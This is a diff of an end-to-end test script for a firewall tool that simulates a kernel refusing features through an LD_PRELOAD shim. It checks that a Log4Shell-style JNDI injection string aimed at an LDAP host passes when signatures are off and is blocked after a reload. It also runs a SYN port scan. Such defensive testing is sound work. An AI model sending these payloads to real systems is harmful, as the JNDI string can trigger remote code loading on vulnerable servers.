@@ -204,20 +204,21 @@ daemon_end
 is "the daemon ends well" "$code" 0
 sw detach --all -q
 
-# ---- a kernel that refuses what is no must, made to look so
+# ---- a kernel that refuses what is no must
 
-export SCANWALL_REFUSED='respond challenge answer'
+check "such a kernel" cc -shared -fPIC -D_GNU_SOURCE -o "$work/refuse.so" "$top/tests/e2e/refuse.c"
+export LD_PRELOAD="$work/refuse.so" REFUSE='respond challenge answer'
 expect 0 "attach goes on without them" sw attach net1 --mode enforce
 says "and says so" '^signatures are off: this kernel refused' '^challenges are off: this kernel refused' \
 	'^refusals by services are not seen: '
 expect 0 "rules load" sw rules load
 says "says so as well" 'signatures are off'
+unset LD_PRELOAD REFUSE
 new_self
 check "payloads pass" ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
 new_self
 scan "$source4" "$target4" -sS >/dev/null
 check "scanners are blocked all the same" cut4
-unset SCANWALL_REFUSED
 sw attach net1 -q
 new_self
 check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
